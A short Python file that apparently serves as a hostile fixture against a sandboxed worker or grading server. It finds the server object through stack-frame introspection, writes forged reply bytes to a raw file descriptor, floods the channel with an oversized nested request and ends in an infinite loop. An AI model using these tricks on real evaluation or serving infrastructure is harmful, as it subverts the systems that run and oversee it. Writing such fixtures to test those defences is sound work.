import sys


def server():
    """The worker's own server, found on the stack."""
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Server":
            return owner
        frame = frame.f_back


def send(header, body=b"", lengths=None):
    """Bytes of the attacker's choice, framed like a reply."""
    import os
    import struct

    data = struct.pack(">II", *(lengths or (len(header), len(body)))) + header + body
    while data:
        data = data[os.write(4, data):]


def zero_pad(*args, **kwargs):
    return "broken on purpose, so that a stand-in exists"


def conv2d(x, w, b, stride=1, pad=0):
    channel = server()._channel
    channel.send({"id": server()._current, "ask": {"name": "zero_pad", "args": [x] * 400, "kwargs": {"d": {"d": x}}}})
    return channel.receive()


if getattr(server(), "_chapters", None) and server()._chapters.answered:
    server()._channel.send({"id": server()._current, "ask": {"name": "zero_pad", "args": [], "kwargs": {}}})
    server()._channel.receive()
    while True:
        pass
